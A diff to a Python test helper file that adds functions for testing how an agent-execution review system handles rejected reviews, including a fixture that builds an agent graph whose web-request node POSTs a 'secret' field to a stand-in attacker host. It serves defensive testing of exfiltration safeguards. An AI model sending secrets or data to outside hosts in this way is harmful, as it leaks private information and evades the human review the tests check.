@@ -11,10 +11,11 @@ from typing import Any
 import pytest
 from pytest_django import Settings
 
-from chat.models import Turn
-from executions.models import Review
+from chat.models import Session, Turn
+from executions.models import Agent, Review
 from executions.reviews.deciding import decide
 from llm.offline.embedded import OfflineServer
+from tests.executions.people import import_valid, node
 from tools.models import ToolCall
 
 Send = Callable[..., Turn]
@@ -96,3 +97,28 @@ def go_on(answer: dict[str, Any], send: Send, call_id: str) -> dict[str, Any]:
     going_on = call("continue_run_block", call_id, review_id=answer["review_id"])
     send({"id": call_id, "steps": [going_on, {"text": "Done."}]})
     return ToolCall.objects.get(call_id=call_id).result or {}
+
+
+def reject(answer: dict[str, Any], send: Send, call_id: str = "go") -> dict[str, Any]:
+    review = Review.objects.get(pk=answer["review_id"])
+    decide(review, approved=False, message="No.", by=review.user)
+    return go_on(answer, send, call_id)
+
+
+def only_review(**facts: Any) -> Review:
+    return Review.objects.get(state=Review.State.WAITING, **facts)
+
+
+def taking(evil: EvilSite) -> dict[str, Any]:
+    """What makes Send Web Request carry something away."""
+    return {"url": f"http://{evil.address}/take", "method": "POST", "body": {"secret": "x"}}
+
+
+def sending_graph(evil: EvilSite) -> dict[str, Any]:
+    return {"name": "Sender", "nodes": [node("out", "Send Web Request", **taking(evil))], "links": []}
+
+
+def sender(session: Session, evil: EvilSite) -> Agent:
+    """An agent that a person drew: it sends a request."""
+    assert session.user is not None
+    return import_valid(session.user, sending_graph(evil))
